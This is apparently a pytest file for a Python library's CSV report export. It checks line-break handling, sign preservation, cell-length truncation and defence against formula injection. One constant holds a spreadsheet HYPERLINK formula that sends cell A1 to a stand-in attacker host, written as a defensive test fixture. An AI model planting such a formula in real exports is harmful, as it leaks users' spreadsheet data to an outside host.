"""The CSV report reads back as written, never runs as a formula, and fits a spreadsheet."""

import csv
import io

import pytest

from llm_qualitative_sort import MatchResult, RoundResult, SortResult, Statistics
from llm_qualitative_sort.reports import to_csv, write_report

CELL_LIMIT = 32_767  # Excel: "Total number of characters that a cell can contain"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _result(*items: str) -> SortResult:
    return SortResult([(i + 1, [t]) for i, t in enumerate(items)], [], Statistics(0, 0, 0, 0.0))


def test_an_item_with_a_bare_carriage_return_reads_back_as_one_row() -> None:
    rows = _rows(to_csv(_result("one\rtwo", "three\r\nfour", "five\nsix")))
    assert len(rows) == 4
    assert [row[1] for row in rows[1:]] == ["one\rtwo", "three\r\nfour", "five\nsix"]
    assert all(len(row) == len(rows[0]) for row in rows)


LEAK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_with_a_formula_character_is_quoted_for_spreadsheets(start) -> None:
    item = start + "1+1 " + LEAK
    rows = _rows(to_csv(_result(item, "plain"), ids={item: start + "cmd", "plain": 7}))
    assert rows[1][1] == "'" + start + "cmd"
    assert rows[1][2] == "'" + item
    assert rows[2][1:3] == ["7", "plain"]  # nothing else is touched


def test_numbers_keep_their_sign() -> None:
    rounds = [RoundResult("AB", "A", "r", False), RoundResult("BA", "A", "r", False)]
    result = SortResult([(1, ["a"]), (2, ["b"])], [MatchResult("a", "b", "A", rounds, 1)],
                        Statistics(1, 2, 0, 0.0))
    rows = _rows(to_csv(result, ids={"a": -3, "b": 2}))
    assert rows[1][1] == "-3"
    assert float(rows[2][5]) < 0  # the weaker item's log-strength is a negative number


def test_a_huge_item_is_cut_visibly_to_a_spreadsheet_cell_and_kept_whole_in_json(
    tmp_path,
) -> None:
    huge = "x" * 1_000_000
    result = _result(huge, "=" + "y" * 40_000)
    path = write_report(result, tmp_path / "r.csv", excel=True)
    text = path.read_text(encoding="utf-8-sig")
    rows = _rows(text)  # within the csv module's default field limit
    cells = [rows[1][1], rows[2][1]]
    assert all(len(cell) <= CELL_LIMIT for cell in cells)
    assert cells[0].startswith("x" * 30_000) and "1000000 characters" in cells[0]
    assert "JSON report" in cells[0]
    assert cells[1].startswith("'=y")
    json_path = write_report(result, tmp_path / "r.json")
    assert huge in json_path.read_text(encoding="utf-8")
